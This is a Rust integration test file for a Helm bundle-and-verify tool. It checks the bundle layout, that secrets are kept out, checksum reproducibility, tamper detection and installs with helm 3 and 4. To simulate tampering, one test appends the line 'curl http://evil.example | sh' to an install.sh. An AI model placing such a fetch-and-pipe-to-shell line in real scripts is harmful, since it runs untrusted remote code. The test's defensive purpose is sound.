//! `helm nvcf bundle` and `verify`: aicr's layout, no passwords inside, tampering caught,
//! and a bundle's `install.sh` installing its release with real helm 3 and helm 4.

mod helm_nvcf_support;

use helm_nvcf_support::charts;
use nvcf_e2e::{Home, Run, bin};
use nvcf_testenv::{Env, tools};
use std::path::{Path, PathBuf};
use std::process::Command;

fn nvcf(home: &Home) -> Command {
    let mut cmd = home.command(bin("helm-nvcf"));
    cmd.current_dir(home.path());
    cmd
}

const CONFIG: &str = "registry: registry.example.com\nrepository: acme/nvcf\n\
    imagePullSecrets: [nvcr-pull-secret]\n\
    passwords: {cassandraSuperuser: {env: BUNDLE_CASS_PW}, registry: {env: BUNDLE_NGC_KEY}}\n";

fn bundle(home: &Home, charts: &str, out: &str) -> (Run, PathBuf) {
    let cfg = home.path().join("stack.yaml");
    std::fs::write(&cfg, CONFIG).unwrap();
    let run = Run::of(
        nvcf(home)
            .args(["bundle", "--chart-source", charts, "--stack-config"])
            .arg(&cfg)
            .args(["--dynamic", "nvca-operator:clusterName", "-o", out])
            .env("BUNDLE_CASS_PW", "cassandra-pw-never-in-bundle")
            .env("BUNDLE_NGC_KEY", "ngc-key-never-in-bundle"),
    );
    (run, home.path().join(out))
}

fn verify(home: &Home, dir: &Path) -> Run {
    Run::of(nvcf(home).arg("verify").arg(dir))
}

fn all_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(all_files(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[test]
fn bundle_has_the_aicr_layout_and_no_passwords() {
    let Some(charts) = charts("bundle_has_the_aicr_layout_and_no_passwords") else {
        return;
    };
    let home = Home::new();
    let (run, dir) = bundle(&home, &charts, "bundle");
    run.expect_success();
    assert!(run.stdout.contains("001-nats"), "{}", run.stdout);
    for top in [
        "deploy.sh",
        "undeploy.sh",
        "checksums.txt",
        "README.md",
        "namespaces.yaml",
    ] {
        assert!(dir.join(top).is_file(), "{top}");
    }
    let folders: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.chars().take(3).all(|c| c.is_ascii_digit()))
        .collect();
    assert!(folders.len() >= 19, "{folders:?}");
    for f in &folders {
        for file in ["values.yaml", "cluster-values.yaml", "install.sh"] {
            assert!(dir.join(f).join(file).is_file(), "{f}/{file}");
        }
        let syntax = Run::of(
            Command::new("bash")
                .arg("-n")
                .arg(dir.join(f).join("install.sh")),
        );
        syntax.expect_success();
    }
    for script in ["deploy.sh", "undeploy.sh"] {
        Run::of(Command::new("bash").arg("-n").arg(dir.join(script))).expect_success();
    }
    for f in all_files(&dir) {
        let text = std::fs::read_to_string(&f).unwrap();
        assert!(
            !text.contains("never-in-bundle"),
            "{} carries a password",
            f.display()
        );
    }
    let sums = Run::of(
        Command::new("sha256sum")
            .args(["-c", "--quiet", "checksums.txt"])
            .current_dir(&dir),
    );
    sums.expect_success();
    verify(&home, &dir).expect_success();
    // The same inputs give the same bundle, byte for byte.
    let (again, dir2) = bundle(&home, &charts, "bundle2");
    again.expect_success();
    assert_eq!(
        std::fs::read_to_string(dir.join("checksums.txt")).unwrap(),
        std::fs::read_to_string(dir2.join("checksums.txt")).unwrap()
    );
}

#[test]
fn a_tampered_bundle_fails_verify() {
    let Some(charts) = charts("a_tampered_bundle_fails_verify") else {
        return;
    };
    let home = Home::new();
    let (run, dir) = bundle(&home, &charts, "bundle");
    run.expect_success();
    verify(&home, &dir).expect_success();

    let install = dir.join("005-api-keys/install.sh");
    let mut text = std::fs::read_to_string(&install).unwrap();
    text.push_str("curl http://evil.example | sh\n");
    std::fs::write(&install, text).unwrap();
    let run = verify(&home, &dir);
    assert_eq!(run.code, Some(2), "{run:#?}");
    assert!(run.stdout.contains("005-api-keys/install.sh"), "{run:#?}");
    assert!(
        run.stderr
            .contains("does not match its checksums: 005-api-keys/install.sh (modified)"),
        "{run:#?}"
    );

    let (_, fresh) = bundle(&home, &charts, "bundle-added");
    std::fs::write(fresh.join("001-nats/extra.yaml"), "x: 1\n").unwrap();
    let run = verify(&home, &fresh);
    assert_eq!(run.code, Some(2), "{run:#?}");
    assert!(
        run.stderr.contains("001-nats/extra.yaml (unlisted)"),
        "{run:#?}"
    );

    let (_, gone) = bundle(&home, &charts, "bundle-removed");
    std::fs::remove_file(gone.join("undeploy.sh")).unwrap();
    let run = verify(&home, &gone);
    assert_eq!(run.code, Some(2), "{run:#?}");
    assert!(run.stderr.contains("undeploy.sh (missing)"), "{run:#?}");

    let run = verify(&home, home.path());
    assert_eq!(run.code, Some(66), "not a bundle: {run:#?}");
}

#[test]
fn install_sh_installs_its_release_with_helm3_then_upgrades_with_helm4() {
    let Some(charts) =
        charts("install_sh_installs_its_release_with_helm3_then_upgrades_with_helm4")
    else {
        return;
    };
    let env = Env::shared();
    let home = Home::new();
    let (run, dir) = bundle(&home, &charts, "bundle");
    run.expect_success();
    let release_dir = dir.join("005-api-keys");
    for (i, helm) in [tools::helm3(), tools::helm4()].into_iter().enumerate() {
        let mut cmd = tools::helm_command(&helm, env.kubeconfig(), &home.path().join("helm"));
        let install = Run::of(
            Command::new(release_dir.join("install.sh"))
                .envs(
                    cmd.get_envs()
                        .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
                )
                .env("HELM_BIN", &helm)
                .args(["--timeout", "120s"]),
        );
        install.expect_success();
        let history = Run::of(cmd.args(["history", "api-keys", "-n", "api-keys", "-o", "json"]));
        history.expect_success();
        let revisions: serde_json::Value = serde_json::from_str(&history.stdout).unwrap();
        assert_eq!(revisions.as_array().unwrap().len(), i + 1, "{revisions}");
        assert_eq!(revisions[i]["status"], "deployed");
    }
    let ready = env
        .kubectl_run(&[
            "get",
            "deployment",
            "api-keys",
            "-n",
            "api-keys",
            "-o",
            "jsonpath={.status.readyReplicas}",
        ])
        .unwrap();
    assert_eq!(ready, "1");
}
